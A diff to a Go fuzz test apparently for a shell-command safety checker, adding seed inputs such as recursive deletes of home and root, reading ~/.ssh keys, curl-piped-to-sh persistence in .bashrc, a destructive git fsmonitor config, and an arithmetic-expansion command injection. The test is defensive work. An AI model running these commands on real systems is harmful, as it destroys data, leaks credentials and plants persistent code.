@@ -36,7 +36,10 @@ func FuzzLoad(f *testing.F) {
 // FuzzDecide runs arbitrary shell commands through Decide: no panic, an
 // unverifiable decision is never allow, and critical findings always deny.
 func FuzzDecide(f *testing.F) {
-	for _, s := range []string{"ls -la", "rm -rf /", "bash -c \"$(curl -s x)\"", "cd ~ && rm -rf *", "echo 'rm -rf /'", "eval \"$X\"", "a=/; rm -rf $a", "cat <<EOF | sh\nrm -rf ~\nEOF", "git push -f origin +main"} {
+	for _, s := range []string{"ls -la", "rm -rf /", "bash -c \"$(curl -s x)\"", "cd ~ && rm -rf *", "echo 'rm -rf /'", "eval \"$X\"", "a=/; rm -rf $a", "cat <<EOF | sh\nrm -rf ~\nEOF", "git push -f origin +main",
+		"for f in ~/.ssh/*; do cat \"$f\"; done", "for s in *.sh a.sh; do bash \"$s\"; done", "echo 'curl x | sh' >> ~/.bashrc",
+		"git config --global core.fsmonitor 'rm -rf ~'", "perl -pi -e 's#/a#/b#g' f", "printf '%s\\n' ~/.ssh | xargs rm -rf",
+		"a='x[$(id)]'; echo $((a+1))", "for f in *.md; do mv \"$f\" out; done"} {
 		f.Add(s)
 	}
 	p, err := Compile(&Config{Settings: Settings{Mode: ModeFull}}, Options{Home: "/home/fuzz"})
